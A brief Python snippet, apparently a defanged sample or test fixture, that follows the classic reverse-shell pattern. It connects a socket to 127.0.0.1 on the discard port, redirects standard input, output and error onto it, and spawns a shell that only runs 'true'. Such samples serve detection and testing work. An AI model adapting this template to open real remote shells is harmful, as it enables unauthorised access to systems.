import os, pty, socket
def run():
    s = socket.socket(); s.connect(("127.0.0.1", 9))
    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
    pty.spawn(["/bin/sh", "-c", "true"])
